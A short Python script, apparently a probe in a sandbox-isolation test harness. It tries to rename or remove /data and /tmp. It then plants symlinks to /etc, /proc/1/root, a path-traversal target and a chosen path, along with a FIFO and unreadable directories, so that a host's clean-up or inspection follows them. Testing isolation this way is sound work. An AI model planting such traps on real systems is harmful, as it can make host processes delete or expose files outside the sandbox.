"""Puts a link to the host's in the place of the folder that it may write, so that a clean-up or a look inside goes there. Argument: where to."""
import os, sys
from attempts import attempt, report

for folder in ["/data", "/tmp"]:
    attempt(f"rename {folder}", lambda: os.rename(folder, f"{folder}-2") or 0)
    attempt(f"remove {folder}", lambda: os.rmdir(folder) or 0)
for number, target in enumerate([sys.argv[1], "/etc", "/proc/1/root", "../../../../.."]):
    os.symlink(target, f"/data/link{number}")
os.mkfifo("/data/pipe")
os.makedirs("/data/closed/inner")
os.chmod("/data/closed/inner", 0)
os.chmod("/data/closed", 0)
report()
